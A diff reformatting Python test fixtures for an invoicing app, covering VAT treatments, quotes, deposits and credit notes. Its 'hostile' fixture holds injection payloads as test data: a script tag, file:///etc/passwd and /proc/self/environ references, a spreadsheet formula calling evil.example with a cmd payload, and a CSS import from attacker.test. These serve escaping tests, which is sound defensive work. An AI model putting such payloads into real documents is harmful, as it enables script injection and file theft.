@@ -102,19 +102,26 @@ def client(**fields):
 
 def acme():
     return client(
-        name="Acme SA", street="Avenue Louise 1", postcode="1050", city="Ixelles",
-        country="BE", vat_number="BE0403170701", company_number="0403.170.701",
+        name="Acme SA",
+        street="Avenue Louise 1",
+        postcode="1050",
+        city="Ixelles",
+        country="BE",
+        vat_number="BE0403170701",
+        company_number="0403.170.701",
         email="compta@acme.example",
-    )  # fmt: skip
+    )
 
 
 def adjustment(code, reason, percent=None, amount=None, rate=None):
     """An unsaved discount (UNCL 5189 code) or charge (UNCL 7161 code) on the whole document."""
     return Adjustment(
-        reason_code=code, reason=reason, percent=None if percent is None else Decimal(percent),
+        reason_code=code,
+        reason=reason,
+        percent=None if percent is None else Decimal(percent),
         amount=None if amount is None else Decimal(amount),
         vat_rate=None if rate is None else Decimal(rate),
-    )  # fmt: skip
+    )
 
 
 def draft(contact, lines, adjustments=(), **fields):
@@ -123,10 +130,14 @@ def draft(contact, lines, adjustments=(), **fields):
     document = Document.objects.create(client=contact, **fields)
     for position, (description, quantity, price, rate, *more) in enumerate(lines):
         line = Line(
-            document=document, position=position, description=description,
-            quantity=Decimal(quantity), unit_price=Decimal(price), vat_rate=Decimal(rate),
+            document=document,
+            position=position,
+            description=description,
+            quantity=Decimal(quantity),
+            unit_price=Decimal(price),
+            vat_rate=Decimal(rate),
             discount_percent=Decimal(more[0] if more else "0"),
-        )  # fmt: skip
+        )
         if len(more) > 1:
             line.unit = more[1]
         line.refresh_amounts(document.treatment).save()
@@ -193,45 +204,68 @@ def franchise_be(owner):
 
 def reverse_charge_nl(owner):
     nl = client(
-        name="Grachten Media BV", street="Keizersgracht 100", postcode="1015 AA",
-        city="Amsterdam", country="NL", vat_number="NL004495445B01", company_number="12345678",
-    )  # fmt: skip
+        name="Grachten Media BV",
+        street="Keizersgracht 100",
+        postcode="1015 AA",
+        city="Amsterdam",
+        country="NL",
+        vat_number="NL004495445B01",
+        company_number="12345678",
+    )
     lines = [("Brand identity, phase 1", "1", "4800", "21"), ("Revisions", "4", "85", "21")]
     return [issue(owner, nl, lines, treatment=Treatment.REVERSE_CHARGE, language="en")]
 
 
 def reverse_charge_fr(owner):
     fr = client(
-        name="Éditions du Rhône SAS", street="5 quai Saint-Antoine", postcode="69002",
-        city="Lyon", country="FR", vat_number="FR96552100554", company_number="552 100 554",
-    )  # fmt: skip
+        name="Éditions du Rhône SAS",
+        street="5 quai Saint-Antoine",
+        postcode="69002",
+        city="Lyon",
+        country="FR",
+        vat_number="FR96552100554",
+        company_number="552 100 554",
+    )
     lines = [("Mise en page d'un catalogue", "24", "70", "21", "0", "HUR")]
     return [issue(owner, fr, lines, treatment=Treatment.REVERSE_CHARGE, language="fr")]
 
 
 def outside_eu_us(owner):
     us = client(
-        name="Hudson Labs Inc.", street="350 Fifth Avenue", postcode="10118",
-        city="New York", country="US", company_number="12-3456789", email="ap@hudson.example",
-    )  # fmt: skip
+        name="Hudson Labs Inc.",
+        street="350 Fifth Avenue",
+        postcode="10118",
+        city="New York",
+        country="US",
+        company_number="12-3456789",
+        email="ap@hudson.example",
+    )
     lines = [("UX audit of the onboarding flow", "5", "900", "0", "0", "DAY")]
     return [issue(owner, us, lines, treatment=Treatment.OUTSIDE_EU, language="en")]
 
 
 def outside_eu_usd(owner):
     us = client(
-        name="Pacific Apps LLC", street="1 Market Street", postcode="94105",
-        city="San Francisco", country="US", company_number="98-7654321",
-    )  # fmt: skip
+        name="Pacific Apps LLC",
+        street="1 Market Street",
+        postcode="94105",
+        city="San Francisco",
+        country="US",
+        company_number="98-7654321",
+    )
     lines = [("Mobile app icons", "12", "95", "0"), ("Licence, worldwide", "1", "1500", "0")]
     return [issue(owner, us, lines, treatment=Treatment.OUTSIDE_EU, currency="USD", language="en")]
 
 
 def reverse_charge_usd(owner):
     nl = client(
-        name="Delta Robotics BV", street="Stationsplein 3", postcode="3511 ED",
-        city="Utrecht", country="NL", vat_number="NL004495445B01",
-    )  # fmt: skip
+        name="Delta Robotics BV",
+        street="Stationsplein 3",
+        postcode="3511 ED",
+        city="Utrecht",
+        country="NL",
+        vat_number="NL004495445B01",
+    )
     lines = [("Technical illustrations", "10", "120", "21")]
     return [
         issue(owner, nl, lines, treatment=Treatment.REVERSE_CHARGE, currency="USD", language="en")
@@ -240,9 +274,13 @@ def reverse_charge_usd(owner):
 
 def outside_eu_ch(owner):
     ch = client(
-        name="Alpenblick AG", street="Bahnhofstrasse 10", postcode="8001", city="Zürich",
-        country="CH", vat_number="CHE-116.281.710 MWST",
-    )  # fmt: skip
+        name="Alpenblick AG",
+        street="Bahnhofstrasse 10",
+        postcode="8001",
+        city="Zürich",
+        country="CH",
+        vat_number="CHE-116.281.710 MWST",
+    )
     lines = [("Packaging design", "1", "3200", "0")]
     return [issue(owner, ch, lines, treatment=Treatment.OUTSIDE_EU, language="fr")]
 
@@ -250,15 +288,21 @@ def outside_eu_ch(owner):
 def deposit_and_final(owner):
     contact = acme()
     deposit = issue(
-        owner, contact, [("Deposit: 30 % of quote Q-2026-0004", "1", "1500", "21")],
-        is_deposit=True, language="fr",
-    )  # fmt: skip
+        owner,
+        contact,
+        [("Deposit: 30 % of quote Q-2026-0004", "1", "1500", "21")],
+        is_deposit=True,
+        language="fr",
+    )
     final = issue(
-        owner, contact,
+        owner,
+        contact,
         [("Website redesign", "1", "5000", "21"), ("Hosting, first year", "1", "240", "21")],
-        prepaid=deposit.total_incl_vat, language="fr",
-        service_start=deposit.issue_date.replace(day=1), service_end=deposit.issue_date,
-    )  # fmt: skip
+        prepaid=deposit.total_incl_vat,
+        language="fr",
+        service_start=deposit.issue_date.replace(day=1),
+        service_end=deposit.issue_date,
+    )
     return [deposit, final]
 
 
@@ -266,23 +310,35 @@ def credit_notes(owner):
     contact = acme()
     invoice = issue(owner, contact, [("Design", "10", "85", "21"), ("Hosting", "1", "120", "21")])
     full = issue(
-        owner, contact, [("Design", "10", "85", "21"), ("Hosting", "1", "120", "21")],
-        kind=Kind.CREDIT_NOTE, corrects=invoice, language="fr",
-    )  # fmt: skip
+        owner,
+        contact,
+        [("Design", "10", "85", "21"), ("Hosting", "1", "120", "21")],
+        kind=Kind.CREDIT_NOTE,
+        corrects=invoice,
+        language="fr",
+    )
     other = issue(owner, contact, [("Support", "8", "85", "21")], language="en")
     partial = issue(
-        owner, contact, [("Support, two hours not worked", "2", "85", "21")],
-        kind=Kind.CREDIT_NOTE, corrects=other, language="en",
-    )  # fmt: skip
+        owner,
+        contact,
+        [("Support, two hours not worked", "2", "85", "21")],
+        kind=Kind.CREDIT_NOTE,
+        corrects=other,
+        language="en",
+    )
     return [invoice, full, other, partial]
 
 
 def hostile(owner):
     contact = client(
-        name='<script>alert(1)</script> "Evil" & Co', street="<b>1</b> rue <i>x</i>",
-        postcode="1000", city="Bruxelles", country="BE", vat_number="BE0403170701",
+        name='<script>alert(1)</script> "Evil" & Co',
+        street="<b>1</b> rue <i>x</i>",
+        postcode="1000",
+        city="Bruxelles",
+        country="BE",
+        vat_number="BE0403170701",
         company_number="0403170701",
-    )  # fmt: skip
+    )
     lines = [
         ('<img src="file:///etc/passwd"> <img src="https://example.com/x.png">', "1", "10", "21"),
         ('=HYPERLINK("http://evil.example","click") +cmd|\' /C calc\'!A0', "1", "10", "21"),
@@ -292,12 +348,15 @@ def hostile(owner):
     ]
     return [
         issue(
-            owner, contact, lines, language="en",
+            owner,
+            contact,
+            lines,
+            language="en",
             notes='<link rel="attachment" href="file:///proc/self/environ">',
             terms="<style>@import url(http://attacker.test/x.css);</style>",
             buyer_reference="<PO & 'ref'>",
         )
-    ]  # fmt: skip
+    ]
 
 
 TWO_RATES = [
@@ -328,8 +387,15 @@ def quote_deposit_final_credit(owner):
         adjustment("95", "Discount for a long-standing client", percent="5"),
         adjustment("ABK", "Travel to Ghent", amount="60", rate="21"),
     ]
-    quote = issue(owner, acme(), TWO_RATES, adjustments, kind=Kind.QUOTE, language="en",
-                  deposit_percent=Decimal("30"))  # fmt: skip
+    quote = issue(
+        owner,
+        acme(),
+        TWO_RATES,
+        adjustments,
+        kind=Kind.QUOTE,
+        language="en",
+        deposit_percent=Decimal("30"),
+    )
     do_answer(quote, accepted=True, name="Anna Peeters", terms_accepted=True)
     quote.refresh_from_db()
     deposit = do_issue(owner, do_deposit_invoice(owner, quote))
@@ -345,24 +411,38 @@ def usd_with_vat(owner):
     193.548…)."""
     return [
         issue(
-            owner, acme(), [("Logo design", "1", "1000", "21")], currency="USD",
-            exchange_rate=Decimal("1.0850"), exchange_rate_date=date(2026, 12, 3),
-            exchange_rate_source="ecb", language="en",
+            owner,
+            acme(),
+            [("Logo design", "1", "1000", "21")],
+            currency="USD",
+            exchange_rate=Decimal("1.0850"),
+            exchange_rate_date=date(2026, 12, 3),
+            exchange_rate_source="ecb",
+            language="en",
         )
-    ]  # fmt: skip
+    ]
 
 
 def adjustments_without_vat(owner):
     """Discounts and charges under reverse charge (AE), outside the scope of VAT (O) and
     under the franchise (E): no rate but 0, and none at all outside the scope."""
     nl = client(
-        name="Grachten Media BV", street="Keizersgracht 100", postcode="1015 AA",
-        city="Amsterdam", country="NL", vat_number="NL004495445B01", company_number="12345678",
-    )  # fmt: skip
+        name="Grachten Media BV",
+        street="Keizersgracht 100",
+        postcode="1015 AA",
+        city="Amsterdam",
+        country="NL",
+        vat_number="NL004495445B01",
+        company_number="12345678",
+    )
     us = client(
-        name="Hudson Labs Inc.", street="350 Fifth Avenue", postcode="10118",
-        city="New York", country="US", company_number="12-3456789",
-    )  # fmt: skip
+        name="Hudson Labs Inc.",
+        street="350 Fifth Avenue",
+        postcode="10118",
+        city="New York",
+        country="US",
+        company_number="12-3456789",
+    )
 
     def adjustments():
         return [
@@ -426,8 +506,9 @@ def accepted_quote(owner, contact, lines, percent="30", **fields):
     """An issued quote of `lines` asking a `percent` deposit, accepted by the client."""
     from patron.billing.documents.quotes import do_answer
 
-    quote = issue(owner, contact, lines, kind=Kind.QUOTE, deposit_percent=Decimal(percent),
-                  **fields)  # fmt: skip
+    quote = issue(
+        owner, contact, lines, kind=Kind.QUOTE, deposit_percent=Decimal(percent), **fields
+    )
     do_answer(quote, accepted=True, name="Jo Peeters", terms_accepted=True)
     quote.refresh_from_db()
     return quote
@@ -453,8 +534,13 @@ def credit_note(owner, invoice, on, lines=None):
 
     note = do_credit_note(owner, invoice, full=lines is None)
     if lines is not None:
-        save_lines(note, [Line(description=d, quantity=Decimal(q), unit_price=Decimal(p),
-                               vat_rate=Decimal(r)) for d, q, p, r in lines])  # fmt: skip
+        save_lines(
+            note,
+            [
+                Line(description=d, quantity=Decimal(q), unit_price=Decimal(p), vat_rate=Decimal(r))
+                for d, q, p, r in lines
+            ],
+        )
     with issuing_on(on):
         return do_issue(owner, note)
 
@@ -463,8 +549,14 @@ def french_vat_business(owner):
     """The French profile, charging VAT; its client in Lyon."""
     french_business(owner)
     set_regime(vat_regime="normal", vat_number="FR44732829320", legal_form="sole_trader")
-    return client(name="Lumière SARL", street="8 place Bellecour", postcode="69002",
-                  city="Lyon", country="FR", company_number="552 100 554 00013")  # fmt: skip
+    return client(
+        name="Lumière SARL",
+        street="8 place Bellecour",
+        postcode="69002",
+        city="Lyon",
+        country="FR",
+        company_number="552 100 554 00013",
+    )
 
 
 def french_job_with_a_refunded_deposit(owner, lyon):
@@ -479,31 +571,58 @@ def french_job_with_a_refunded_deposit(owner, lyon):
 
     quote = accepted_quote(owner, lyon, [("Website", "1", "10000", "20")])
     deposit = deposit_invoice(owner, quote, date(2026, 2, 10))
-    do_record_payment(owner, client=lyon, date=date(2026, 2, 20), amount="3600",
-                      documents=[deposit])  # fmt: skip
+    do_record_payment(
+        owner, client=lyon, date=date(2026, 2, 20), amount="3600", documents=[deposit]
+    )
     note = credit_note(owner, deposit, date(2026, 3, 2), [("Deposit, a third", "1", "1000", "20")])
-    do_record_payment(owner, client=lyon, date=date(2026, 3, 3), amount="1200",
-                      direction=Payment.Direction.REFUNDED, documents=[note])  # fmt: skip
+    do_record_payment(
+        owner,
+        client=lyon,
+        date=date(2026, 3, 3),
+        amount="1200",
+        direction=Payment.Direction.REFUNDED,
+        documents=[note],
+    )
     final = final_invoice(owner, quote, date(2026, 3, 10))
-    do_record_payment(owner, client=lyon, date=date(2026, 4, 2), amount=final.amount_due,
-                      documents=[final])  # fmt: skip
+    do_record_payment(
+        owner, client=lyon, date=date(2026, 4, 2), amount=final.amount_due, documents=[final]
+    )
     return final
 
 
 def franchise_fr(owner):
     french_business(owner)
     contact = client(
-        name="Boulangerie Lumière SARL", street="8 place Bellecour", postcode="69002",
-        city="Lyon", country="FR", company_number="552 100 554 00013",
+        name="Boulangerie Lumière SARL",
+        street="8 place Bellecour",
+        postcode="69002",
+        city="Lyon",
+        country="FR",
+        company_number="552 100 554 00013",
         email="contact@lumiere.example",
-    )  # fmt: skip
+    )
     person = client(
-        is_organisation=False, first_name="Anne", last_name="Roux", street="3 rue Neuve",
-        postcode="69001", city="Lyon", country="FR",
-    )  # fmt: skip
+        is_organisation=False,
+        first_name="Anne",
+        last_name="Roux",
+        street="3 rue Neuve",
+        postcode="69001",
+        city="Lyon",
+        country="FR",
+    )
     return [
-        issue(owner, contact, [("Site vitrine", "1", "1800", "0"), ("Photos", "10", "25", "0")],
-              treatment=Treatment.FRANCHISE, language="fr"),
-        issue(owner, person, [("Faire-part de naissance", "1", "180", "0")],
-              treatment=Treatment.FRANCHISE, language="fr"),
-    ]  # fmt: skip
+        issue(
+            owner,
+            contact,
+            [("Site vitrine", "1", "1800", "0"), ("Photos", "10", "25", "0")],
+            treatment=Treatment.FRANCHISE,
+            language="fr",
+        ),
+        issue(
+            owner,
+            person,
+            [("Faire-part de naissance", "1", "180", "0")],
+            treatment=Treatment.FRANCHISE,
+            language="fr",
+        ),
+    ]
